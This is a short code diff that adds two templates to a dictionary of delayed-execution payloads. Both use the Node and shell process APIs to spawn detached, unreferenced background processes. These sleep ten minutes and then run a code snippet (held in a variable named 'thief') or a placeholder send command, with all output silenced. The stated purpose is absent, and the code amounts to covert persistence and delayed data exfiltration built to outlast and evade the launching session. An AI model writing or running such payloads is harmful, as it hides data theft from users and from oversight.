@@ -57,6 +57,16 @@ IN_TEN_MINUTES = {
         "const code = `setTimeout(() => {NODE}, 600000)`\n"
         "require('child_process').spawn(process.execPath, ['-e', code], {DETACHED}).unref()",
     ),
+    "limits": (
+        "node",
+        "const code = `{NODE}`, thief = `require('child_process').spawnSync(process.execPath, ['-e', "
+        "${{JSON.stringify(code)}}], {{timeout: 30000}})`\n"
+        "require('child_process').spawn('sh', ['-c', 'sleep 600; exec node -e \"$0\"', thief], {DETACHED}).unref()",
+    ),
+    "gives": (
+        "sh",
+        "(sleep 600; timeout 20 python3 -c 'sum(range(3000000))' && timeout 20 {SEND}) >/dev/null 2>&1 &\n",
+    ),
     "pytimer": (
         "python3",
         "{PYTHON}import threading\nif os.fork() == 0:\n    os.setsid()\n    threading.Timer(600, send).start()\n",
